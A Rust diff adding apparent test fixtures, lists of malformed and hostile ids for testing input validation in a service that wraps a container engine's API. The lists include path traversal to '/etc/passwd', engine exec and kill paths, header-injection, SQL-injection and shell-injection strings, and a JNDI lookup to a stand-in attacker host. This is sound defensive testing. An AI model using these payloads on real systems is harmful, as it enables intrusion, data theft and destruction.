@@ -1,0 +1,241 @@
+//! Names and ids that nothing has: what an attacker would write where an id belongs.
+
+/// Reaching another path of the engine's API, or another file.
+const TRAVERSAL: [&str; 40] = [
+    "../../images/json?x=",
+    "../../containers/json?all=1",
+    "..",
+    ".",
+    "../",
+    "..\\",
+    "..\\..\\windows",
+    "/",
+    "//",
+    "/..",
+    "/../..",
+    "../../../../etc/passwd",
+    "/etc/passwd",
+    "....//....//",
+    "..;/",
+    "x/../y",
+    "x/..",
+    "x/",
+    "/x",
+    "x//y",
+    "%2e%2e%2fimages%2fjson",
+    "%2e%2e/images/json",
+    "..%2fimages%2fjson",
+    "..%252fimages%252fjson",
+    "..%c0%afimages",
+    "%c0%ae%c0%ae%c0%af",
+    "..%u2215images",
+    "..\u{2215}..\u{2215}images",
+    "..\u{ff0f}images\u{ff0f}json",
+    "\u{ff0e}\u{ff0e}/images",
+    "\u{2025}/images/json",
+    "x?force=1",
+    "x?force=1&v=1",
+    "x&all=1",
+    "x#fragment",
+    "?",
+    "#",
+    "containers/json",
+    "file:///etc/passwd",
+    "\\\\host\\share",
+];
+
+/// Verbs and paths of the engine that would do harm.
+const ENGINE_PATHS: [&str; 14] = [
+    "/v1.41/containers/create",
+    "/v1.41/images/prune",
+    "x/start",
+    "x/kill?signal=KILL",
+    "x/exec",
+    "x/archive?path=/etc",
+    "x/export",
+    "x/attach/ws",
+    "json?filters={}",
+    "../info",
+    "../version",
+    "../_ping",
+    "../events?since=0",
+    "../../../v1.41/system/df",
+];
+
+/// Ends of lines, and headers of one's own.
+const LINES: [&str; 12] = [
+    "a\nb",
+    "a\rb",
+    "a\r\nb",
+    "\r\n\r\nGET /images/json HTTP/1.1\r\nHost: docker\r\n\r\n",
+    "x HTTP/1.1\r\nX-Evil: 1",
+    "x\r\nSet-Cookie: a=b",
+    "%0d%0aX-Evil: 1",
+    "%0aGET / HTTP/1.1",
+    "a\u{85}b",
+    "a\u{2028}b",
+    "a\u{2029}b",
+    "a\u{b}b\u{c}c",
+];
+
+/// Space in all its forms, and what does not show.
+const INVISIBLE: [&str; 16] = [
+    " ",
+    "\t",
+    " x",
+    "x ",
+    "a b",
+    "\u{a0}",
+    "\u{3000}",
+    "\u{200b}",
+    "a\u{200d}b",
+    "\u{feff}x",
+    "\u{202e}gpj.exe",
+    "\u{2066}x\u{2069}",
+    "\u{ad}",
+    "\u{e0001}",
+    "\u{fffd}",
+    "\u{10ffff}",
+];
+
+const QUERIES: [&str; 16] = [
+    "'",
+    "''",
+    "\"",
+    "`",
+    "' or 1=1 --",
+    "' or '1'='1",
+    "\" or \"\"=\"",
+    "'; drop table users; --",
+    "1; select sqlite_version()",
+    "' union select token_hash from sessions --",
+    "x' and randomblob(100000000) --",
+    "%",
+    "_",
+    "*",
+    "x' escape '\\",
+    "$1",
+];
+
+const SHELL: [&str; 20] = [
+    "$(id)",
+    "`id`",
+    "; id",
+    "| cat /etc/passwd",
+    "&& reboot",
+    "|| reboot",
+    "& sleep 9 &",
+    "> /tmp/x",
+    "< /etc/passwd",
+    "${IFS}x",
+    "$HOME",
+    "~root",
+    "-rf",
+    "--help",
+    "-",
+    "--",
+    "{a,b}",
+    "[a-z]*",
+    "!!",
+    "a\\",
+];
+
+const TEMPLATES: [&str; 14] = [
+    "{{7*7}}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "${jndi:ldap://evil.example/x}",
+    "%s%s%s%n",
+    "%n%n%n%n",
+    "{0}",
+    "{}",
+    "{\"$ne\":null}",
+    "[]",
+    "<script>alert(1)</script>",
+    "<!--#exec cmd=\"id\"-->",
+    "*)(uid=*))(|(uid=*",
+];
+
+const LOOKALIKES: [&str; 14] = [
+    "\u{430}dmin",
+    "pr\u{43e}d",
+    "\u{ff10}\u{ff11}\u{ff12}",
+    "\u{661}\u{662}\u{663}",
+    "\u{fb00}",
+    "\u{131}d",
+    "\u{130}D",
+    "\u{1d5c9}\u{1d5cb}\u{1d5c8}\u{1d5bd}",
+    "e\u{301}\u{301}\u{301}\u{301}",
+    "prod\u{0}",
+    "prod\u{200b}",
+    "PROD",
+    "prod.",
+    "prod\u{2044}x",
+];
+
+const NUMBERS: [&str; 14] = [
+    "0",
+    "-1",
+    "-0",
+    "1e309",
+    "NaN",
+    "Infinity",
+    "null",
+    "undefined",
+    "true",
+    "0x1",
+    "18446744073709551616",
+    "1.5",
+    "+1",
+    "1_000",
+];
+
+/// All of them: the lists, every control character, what is far too long, and what is nearly `id`,
+/// an id that there is.
+pub fn names(id: &str) -> Vec<String> {
+    let lists: [&[&str]; 9] = [
+        &TRAVERSAL,
+        &ENGINE_PATHS,
+        &LINES,
+        &INVISIBLE,
+        &QUERIES,
+        &SHELL,
+        &TEMPLATES,
+        &LOOKALIKES,
+        &NUMBERS,
+    ];
+    let listed = lists.into_iter().flatten().map(|name| (*name).to_owned());
+    let controls = (0..32_u8).chain([127]);
+    let controls = controls.map(|code| format!("a{}b", char::from(code)));
+    let long = [
+        "a".repeat(129),
+        "a".repeat(1024),
+        "a".repeat(8192),
+        "../".repeat(2000),
+        "\u{436}".repeat(3000),
+        "\u{1f600}".repeat(1000),
+        "%00".repeat(1000),
+    ];
+    let hexadecimal = "0a".repeat(32);
+    let near = [
+        id.to_uppercase(),
+        format!(" {id}"),
+        format!("{id} "),
+        format!("{id}\0"),
+        format!("{id}%00"),
+        format!("{{{id}}}"),
+        format!("urn:uuid:{id}"),
+        id.replace('-', ""),
+        id.replace('-', "\u{2010}"),
+        id[1..].to_owned(),
+        format!("{id}{id}"),
+        format!("{id}/../{id}"),
+        format!("{id},{id}"),
+        format!("{hexadecimal}/../../images/json"),
+        format!("{hexadecimal}?x=1"),
+        hexadecimal.to_uppercase(),
+        hexadecimal,
+    ];
+    listed.chain(controls).chain(long).chain(near).collect()
+}
